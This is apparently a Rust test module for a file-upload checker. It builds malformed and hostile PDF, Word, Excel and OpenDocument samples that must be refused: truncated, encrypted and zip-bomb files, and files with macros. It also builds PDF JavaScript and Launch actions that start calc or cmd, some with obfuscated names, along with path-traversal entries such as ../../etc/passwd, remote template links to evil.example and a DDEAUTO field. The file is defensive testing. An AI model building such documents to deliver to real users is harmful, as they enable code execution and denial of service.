//! PDF, Office and `OpenDocument` files that must not come in.

use crate::make::{TYPES, docx, ole, open_document, packed_pdf, part, pdf, sheet, word, xlsx, zip};
use crate::{Case, case, make::Part};
use platform::file_kind::RefusedFile as R;

pub fn all() -> Vec<Case> {
    let mut all = Vec::new();
    pdfs(&mut all);
    active_pdfs(&mut all);
    office(&mut all);
    bombs(&mut all);
    open_documents(&mut all);
    old_office(&mut all);
    all
}

fn pdfs(all: &mut Vec<Case>) {
    let whole = pdf(&[], "");
    for eighth in 1..8 {
        let cut = &whole[..whole.len() * eighth / 8];
        all.push(case(format!("a PDF cut at {eighth}/8"), "don.pdf", cut, R::CutShort));
    }
    let packed = packed_pdf("<</Type/Page>>");
    all.push(case("a packed PDF without its end", "don.pdf", &packed[..packed.len() - 8], R::CutShort));
    all.push(case("a PDF that is its header", "don.pdf", "%PDF-1.4\n", R::CutShort));
    all.push(case("a PDF of a header and an end", "don.pdf", "%PDF-1.4\n%%EOF", R::Damaged));
    all.push(case("a PDF without a table", "don.pdf", "%PDF-1.4\n1 0 obj<</Type/Page>>endobj\n%%EOF", R::Damaged));
    all.push(case("a PDF without objects", "don.pdf", "%PDF-1.4\ntrailer<<>>\nstartxref\n0\n%%EOF", R::Damaged));
    all.push(case("a PDF of zeros", "don.pdf", [b"%PDF-1.4\n".as_slice(), &[0; 5_000], b"%%EOF"].concat(), R::Damaged));
    for lock in [
        "/Encrypt 9 0 R",
        "/Encrypt<</Filter/Standard/V 1>>",
        "/Encrypt <</Filter /Standard /V 5 /R 6>>",
        "/#45ncrypt 9 0 R",
        "/E#6Ecrypt 9 0 R",
    ] {
        all.push(case(format!("a PDF locked by {lock}"), "don.pdf", pdf(&[], lock), R::PasswordProtected));
    }
    let page = zip(&[part("x.js", "alert(1)")]);
    all.push(case("a PDF that is an archive as well", "don.pdf", [whole, page].concat(), R::Archive));
}

fn active_pdfs(all: &mut Vec<Case>) {
    let acts = [
        "<</S/JavaScript/JS(app.alert(1))>>",
        "<</S /JavaScript /JS 7 0 R>>",
        "<</S/Java#53cript/JS(x)>>",
        "<</S/#4Aava#53cript/JS(x)>>",
        "<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>",
        "<</Names<</JavaScript 8 0 R>>>>",
        "<</S/Launch/F(calc.exe)>>",
        "<</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>",
        "<</S/L#61unch/F(x)>>",
        "<</OpenAction<</S/JavaScript/JS(x)>>>>",
        "<</OpenAction<</S/Launch/F(x)>>>>",
        "<</AA<</O<</S/JavaScript/JS(x)>>>>>>",
        "<</AA<</C<</S/Launch/F(x)>>>>>>",
        "<</Annots[<</Subtype/Widget/A<</S/JavaScript/JS(x)>>>>]>>",
        "<</Annots[<</Subtype/Link/A<</S/Launch/F(x)>>>>]>>",
        "<</Next<</S/JavaScript/JS(x)>>>>",
    ];
    for act in acts {
        all.push(case(format!("a PDF with {act}"), "don.pdf", pdf(&[act], ""), R::Active));
        all.push(case(format!("a PDF with {act} packed"), "don.pdf", packed_pdf(act), R::Active));
    }
    // On the border of the pieces in which a file is read.
    for gap in [65_400, 65_450, 65_500, 65_530, 131_000] {
        let far = format!("({})<</S/JavaScript/JS(x)>>", "x".repeat(gap));
        all.push(case(format!("a PDF with a script {gap} bytes on"), "don.pdf", pdf(&[&far], ""), R::Active));
    }
}

fn relation(kind: &str) -> String {
    format!(
        "<Relationships><Relationship Id=\"1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>"
    )
}

type Maker = fn(&[Part]) -> Vec<u8>;
const FAMILIES: [(&str, Maker); 2] = [("don.docx", docx), ("bang.xlsx", xlsx)];

fn office(all: &mut Vec<Case>) {
    for (name, make) in FAMILIES {
        for macros in
            ["word/vbaProject.bin", "xl/vbaProject.bin", "customUI/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"]
        {
            all.push(case(format!("{macros} in {name}"), name, make(&[part(macros, "x")]), R::Macros));
        }
        for climbs in ["../../etc/passwd", "/etc/passwd", "word/../../x", "word\\..\\x", "C:\\x"] {
            all.push(case(format!("{climbs} in {name}"), name, make(&[part(climbs, "x")]), R::Damaged));
        }
        for runs in ["x.exe", "word/embeddings/x.DLL", "x.js", "a/x.vbs", "x.bat", "x.cmd", "x.scr", "x.lnk"] {
            all.push(case(format!("{runs} in {name}"), name, make(&[part(runs, "MZ")]), R::Active));
        }
        for kind in ["attachedTemplate", "oleObject", "frame", "subDocument"] {
            let parts = [part("word/_rels/settings.xml.rels", relation(kind))];
            all.push(case(format!("{kind} fetched by {name}"), name, make(&parts), R::Active));
        }
        let locked = Part { flags: 1, ..part("word/x.xml", "x") };
        all.push(case(format!("a locked part in {name}"), name, make(&[locked]), R::PasswordProtected));
        let whole = make(&[part("docProps/app.xml", "<x/>")]);
        for (label, cut) in [("its table", 100), ("its end", 12), ("one byte", 1)] {
            let cut = &whole[..whole.len() - cut];
            let verdict = if label == "one byte" || label == "its end" { R::Damaged } else { R::CutShort };
            let verdict = if look_has_end(cut) { verdict } else { R::CutShort };
            all.push(case(format!("{name} without {label}"), name, cut, verdict));
        }
        let mut bent = whole.clone();
        bent[60] ^= 0xFF;
        all.push(case(format!("{name} with packed bytes bent"), name, bent, R::Damaged));
        let wrong_sum = Part { crc: Some(1), ..part("word/x.xml", "x") };
        all.push(case(format!("{name} with a wrong sum"), name, make(&[wrong_sum]), R::Damaged));
        let unknown = Part { method: 99, ..part("word/x.xml", "x") };
        all.push(case(format!("{name} packed in an unknown way"), name, make(&[unknown]), R::Damaged));
    }
    let fields =
        [part("[Content_Types].xml", TYPES), part("word/document.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>")];
    all.push(case("a field that starts a program", "don.docx", zip(&fields), R::Active));
    let link = part("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>");
    all.push(case("a cell that asks a program", "bang.xlsx", xlsx(&[link]), R::Active));
    for word in ["macroEnabled.main+xml", "ms-office.vbaProject"] {
        let types = format!("<Types><Override ContentType=\"application/vnd.{word}\"/></Types>");
        let parts = [part("[Content_Types].xml", types), part("word/document.xml", "<x/>")];
        all.push(case(format!("{word} under another name"), "don.docx", zip(&parts), R::Macros));
    }
}

/// Whether an end record stands there whole.
fn look_has_end(bytes: &[u8]) -> bool {
    bytes.windows(4).rposition(|w| w == b"PK\x05\x06").is_some_and(|at| at + 22 <= bytes.len())
}

fn bombs(all: &mut Vec<Case>) {
    let zeros = vec![0; 8 * 1024 * 1024];
    for (name, make) in FAMILIES {
        let lies = Part { claimed: Some(1_000), ..part("word/media/x.bin", &zeros) };
        all.push(case(format!("{name} that holds more than it says"), name, make(&[lies]), R::TooMuchInside));
        for claimed in [600 * 1024 * 1024, u32::MAX] {
            let huge = Part { claimed: Some(claimed), ..part("word/media/x.bin", "x") };
            all.push(case(format!("{name} of {claimed} bytes"), name, make(&[huge]), R::TooMuchInside));
        }
        let many: Vec<Part> = (0..5_100).map(|i| part(&format!("word/{i}.xml"), "")).collect();
        all.push(case(format!("{name} of very many parts"), name, make(&many), R::TooMuchInside));
        let several: Vec<Part> =
            (0..70).map(|i| Part { claimed: Some(8 * 1024 * 1024), ..part(&format!("word/{i}.xml"), "x") }).collect();
        all.push(case(format!("{name} of many large parts"), name, make(&several), R::TooMuchInside));
        let mut shared = make(&[part("word/a.bin", &zeros[..1000]), part("word/b.bin", &zeros[..1000])]);
        // The last part of the table points where the one before lies.
        let table = shared.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
        let first = shared.windows(10).position(|w| w == b"word/a.bin").unwrap() - 30;
        shared[table + 42..table + 46].copy_from_slice(&u32::try_from(first).unwrap().to_le_bytes());
        all.push(case(format!("{name} whose parts share their bytes"), name, shared, R::Damaged));
    }
}

fn open_documents(all: &mut Vec<Case>) {
    for (kind, name) in [("text", "don.odt"), ("spreadsheet", "bang.ods")] {
        let with = |part: Part| open_document(kind, "<x/>", &[part]);
        all.push(case(
            format!("a Basic macro in {name}"),
            name,
            with(part("Basic/Standard/Module1.xml", "x")),
            R::Macros,
        ));
        all.push(case(format!("a Python macro in {name}"), name, with(part("Scripts/python/x.py", "x")), R::Macros));
        all.push(case(format!("a program in {name}"), name, with(part("Pictures/x.exe", "x")), R::Active));
        all.push(case(format!("a way out of {name}"), name, with(part("../x", "x")), R::Damaged));
        let lies = Part { claimed: Some(10), ..part("Pictures/x.png", vec![0; 3_000_000]) };
        all.push(case(format!("{name} that holds more than it says"), name, with(lies), R::TooMuchInside));
        let huge = Part { claimed: Some(u32::MAX), ..part("Pictures/x.png", "x") };
        all.push(case(format!("{name} of 4 GB"), name, with(huge), R::TooMuchInside));
        let locked = open_document(kind, "<manifest:encryption-data/>", &[]);
        all.push(case(format!("{name} with a password"), name, locked, R::PasswordProtected));
        let whole = open_document(kind, "<x/>", &[]);
        all.push(case(format!("{name} cut"), name, &whole[..whole.len() / 2], R::CutShort));
    }
    for kind in ["presentation", "graphics", "formula"] {
        all.push(case(format!("an OpenDocument {kind}"), "x.odp", open_document(kind, "<x/>", &[]), R::Unknown));
    }
}

fn old_office(all: &mut Vec<Case>) {
    for (name, stream, open, locked) in [
        ("don.doc", "WordDocument", word(false).to_vec(), word(true).to_vec()),
        ("bang.xls", "Workbook", sheet(false), sheet(true)),
        ("bang-cu.xls", "Book", sheet(false), sheet(true)),
    ] {
        all.push(case(format!("{name} with a password"), name, ole(stream, &locked, &[]), R::PasswordProtected));
        all.push(case(format!("{name} with macros"), name, ole(stream, &open, &["_VBA_PROJECT"]), R::Macros));
        all.push(case(format!("{name} with a folder of macros"), name, ole(stream, &open, &["Macros"]), R::Macros));
        let whole = ole(stream, &open, &[]);
        all.push(case(format!("{name} cut behind its directory"), name, &whole[..1536], R::CutShort));
        all.push(case(format!("{name} cut in its stream"), name, &whole[..3000], R::CutShort));
        let mut bent = whole.clone();
        bent[30] = 77;
        all.push(case(format!("{name} with an impossible header"), name, bent, R::Damaged));
        let mut lost = whole;
        lost[512 + 8..512 + 12].copy_from_slice(&u32::MAX.to_le_bytes());
        all.push(case(format!("{name} whose chain leads nowhere"), name, lost, R::Damaged));
    }
    all.push(case(
        "new Office in an old wrapping",
        "don.docx",
        ole("EncryptedPackage", b"x", &[]),
        R::PasswordProtected,
    ));
    all.push(case("an installer", "cai-dat.msi", ole("Tables", b"x", &[]), R::Unknown));
}
